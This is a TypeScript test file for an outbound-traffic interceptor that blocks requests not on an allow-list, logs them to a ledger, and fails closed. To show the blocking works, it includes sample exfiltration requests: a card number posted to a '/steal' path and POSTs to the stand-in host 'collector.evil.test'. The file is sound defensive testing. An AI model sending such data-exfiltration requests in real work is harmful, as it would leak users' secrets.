import { spawn } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { pathToFileURL } from 'node:url';
import { afterEach, describe, expect, it } from 'vitest';
import { findPreload } from '../../../harness/egress/interception.js';
import { ENV_ALLOW_EXTRA, ENV_REPORT_ADDRESS } from '../../../harness/egress/protocol.js';
import { startEgressReportServer, type EgressReportServer } from '../../../harness/egress/report-server.js';
import { Ledger } from '../../../harness/model/ledger.js';
import { startEgressProxy } from '../../../mocks/egress-proxy.js';

/** A loopback HTTP server that counts connections (a blocked destination must see none). */
async function countingServer(): Promise<{ server: Server; port: number; connections: () => number; bodies: string[] }> {
  let connections = 0;
  const bodies: string[] = [];
  const server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      bodies.push(Buffer.concat(chunks).toString('utf8'));
      res.writeHead(201, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ echoed: bodies.at(-1) }));
    });
  });
  server.on('connection', () => connections++);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { server, port: (server.address() as AddressInfo).port, connections: () => connections, bodies };
}

/** Runs a Node script with the built preload, as the runner does; resolves with its stdout. */
function runWithPreload(script: string, env: Record<string, string>): Promise<{ code: number | null; stdout: string; stderr: string }> {
  const preload = findPreload();
  if (!preload) throw new Error('dist/harness/egress/preload.js is missing: run npm run build');
  return new Promise((resolve) => {
    const child = spawn(process.execPath, ['--input-type=module', '-e', script], {
      env: { PATH: process.env['PATH'] ?? '', NODE_OPTIONS: `--import=${pathToFileURL(preload).href}`, ...env },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (c: Buffer) => (stdout += c.toString()));
    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
    const timer = setTimeout(() => child.kill('SIGKILL'), 20_000);
    child.on('close', (code) => {
      clearTimeout(timer);
      resolve({ code, stdout, stderr });
    });
  });
}

const cleanup: Array<() => Promise<void> | void> = [];
afterEach(async () => {
  for (const c of cleanup.splice(0).reverse()) await c();
});

describe('egress preload (@mswjs/interceptors in the connector process)', () => {
  it('passes allowed requests through untouched and blocks others before any connection, reporting each', async () => {
    const allowed = await countingServer();
    const denied = await countingServer();
    cleanup.push(() => new Promise<void>((r) => allowed.server.close(() => r())), () => new Promise<void>((r) => denied.server.close(() => r())));
    const ledger = new Ledger();
    // As in a run: the egress proxy's allow-list is the one the interceptor asks about.
    const proxy = await startEgressProxy({ ledger, allow: [`127.0.0.1:${allowed.port}`], names: {} });
    cleanup.push(() => proxy.close());
    const proxyAddr = new URL(proxy.url).host;
    const reports: EgressReportServer = await startEgressReportServer({ ledger, allows: proxy.allows, alsoAllow: [proxyAddr] });
    cleanup.push(() => reports.close());

    const script = `
      import http from 'node:http';
      const out = {};
      const ok = await fetch('http://127.0.0.1:${allowed.port}/v1/refunds', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ amount: 1999 }) });
      out.allowedFetch = [ok.status, await ok.text()];
      const no = await fetch('http://127.0.0.1:${denied.port}/steal', { method: 'POST', body: 'card=4242424242424242' });
      out.deniedFetch = [no.status, no.headers.get('x-gauntlet-egress')];
      out.deniedHttp = await new Promise((resolve) => {
        const req = http.request({ host: '127.0.0.1', port: ${denied.port}, path: '/x', method: 'POST' }, (res) => { res.resume(); resolve(res.statusCode); });
        req.on('error', (e) => resolve('error ' + e.message));
        req.end('secret-ish');
      });
      // The absolute-URI form an HTTP_PROXY client sends goes to the egress proxy untouched; the proxy judges it.
      const [ph, pp] = '${proxyAddr}'.split(':');
      out.viaProxyForm = await new Promise((resolve) => {
        const req = http.request({ host: ph, port: Number(pp), path: 'http://collector.evil.test/', method: 'POST', headers: { host: 'collector.evil.test' } }, (res) => { res.resume(); resolve(res.statusCode); });
        req.on('error', (e) => resolve('error ' + e.message));
        req.end('{}');
      });
      out.evilFetch = (await fetch('http://collector.evil.test/', { method: 'POST', body: 'x' })).status;
      console.log(JSON.stringify(out));
    `;
    const r = await runWithPreload(script, { [ENV_REPORT_ADDRESS]: reports.address });
    expect(r.stderr).toBe('');
    const out = JSON.parse(r.stdout.trim()) as Record<string, unknown>;
    expect(out['allowedFetch']).toEqual([201, JSON.stringify({ echoed: JSON.stringify({ amount: 1999 }) })]);
    expect(out['deniedFetch']).toEqual([403, 'blocked']);
    expect(out['deniedHttp']).toBe(403);
    expect(out['evilFetch']).toBe(403);
    // Never connected: the blocked server saw nothing at all.
    expect(denied.connections()).toBe(0);

    expect(out['viaProxyForm']).toBe(403);
    const entries = ledger.all().filter((e) => e.target === 'egress');
    expect(entries.every((e) => e.status === 403)).toBe(true);
    const by = (who: string | undefined) => entries.filter((e) => e.observedBy === who).map((e) => e.destination);
    expect(by('interceptor')).toEqual([`127.0.0.1:${denied.port}`, `127.0.0.1:${denied.port}`, 'collector.evil.test:80']);
    expect(by(undefined)).toEqual(['collector.evil.test:80']); // the egress proxy's own entry
    expect(entries.find((e) => e.path === '/steal')?.requestBody).toBe('card=4242424242424242');
    expect(reports.allowedSeen()).toContain(`127.0.0.1:${allowed.port}`);
    // Only the blocked ones; the allowed calls went through untouched.
    expect(allowed.bodies).toContain(JSON.stringify({ amount: 1999 }));
  });

  it('fails closed when the report channel is gone, and allows the extra destinations without asking', async () => {
    const extra = await countingServer();
    cleanup.push(() => new Promise<void>((r) => extra.server.close(() => r())));
    const ledger = new Ledger();
    const reports = await startEgressReportServer({ ledger, allows: () => true });
    const dead = reports.address;
    await reports.close();
    const script = `
      const a = (await fetch('http://127.0.0.1:${extra.port}/ok')).status;
      const b = (await fetch('http://example.test:81/')).status;
      console.log(JSON.stringify([a, b]));
    `;
    const r = await runWithPreload(script, { [ENV_REPORT_ADDRESS]: dead, [ENV_ALLOW_EXTRA]: `127.0.0.1:${extra.port}` });
    expect(JSON.parse(r.stdout.trim())).toEqual([201, 403]);
  });
});
